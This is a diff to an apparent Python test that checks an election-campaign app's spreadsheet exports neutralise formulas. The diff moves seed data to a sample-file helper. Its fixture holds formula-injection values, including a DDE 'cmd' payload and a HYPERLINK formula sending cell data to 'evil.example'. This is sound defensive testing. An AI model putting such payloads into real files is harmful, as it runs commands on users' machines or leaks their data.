@@ -24,11 +24,11 @@ from circo.elections.importing import import_results
 from circo.field.models import Visit
 from circo.runtime import open_runtime
 from circo.web.app import create_app
+from tests.elections.sample_files import rhone_bytes
 from tests.server import LiveServer, init_campaign
 from tests.web.test_tenancy import all_api_routes
 
 SLUG = "camp-export"
-RHONE = Path("fr-presidentielle-2017-rhone-mi") / "2017-bronze_burvot_t1_rhone_69.csv"
 HOSTILE = {
     "first_name": "=cmd|' /C calc'!A0",
     "last_name": '+HYPERLINK("http://evil.example/?d="&A1;"x")',
@@ -64,7 +64,7 @@ def test_every_spreadsheet_export_route_is_covered(settings: Settings) -> None:
     assert exporting == set(EXPORTS), "add the new export route to EXPORTS in this test"
 
 
-def _seed(settings: Settings, shared_data: Path, tmp_path: Path) -> int:
+def _seed(settings: Settings, tmp_path: Path) -> int:
     runtime = open_runtime(settings)
     try:
         with runtime.session() as session:
@@ -81,7 +81,7 @@ def _seed(settings: Settings, shared_data: Path, tmp_path: Path) -> int:
                     visited_at=datetime(2027, 3, 1, 10, tzinfo=UTC),
                 )
             )
-            lines = (shared_data / RHONE).read_bytes().splitlines(keepends=True)
+            lines = rhone_bytes(1).splitlines(keepends=True)
             (tmp_path / "rhone.csv").write_bytes(b"".join(lines[:11]))
             import_results(session, path=tmp_path / "rhone.csv", key="pres-2017", round_number=1)
             session.commit()
@@ -102,9 +102,9 @@ def _cells(body: bytes, url: str) -> list[str]:
     return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
 
 
-def test_exports_neutralise_formulas(settings: Settings, shared_data: Path, tmp_path: Path) -> None:
+def test_exports_neutralise_formulas(settings: Settings, tmp_path: Path) -> None:
     email, password = init_campaign(settings, SLUG)
-    segment_id = _seed(settings, shared_data, tmp_path)
+    segment_id = _seed(settings, tmp_path)
     server = LiveServer(settings, tmp_path / "server.log")
     server.start()
     try:
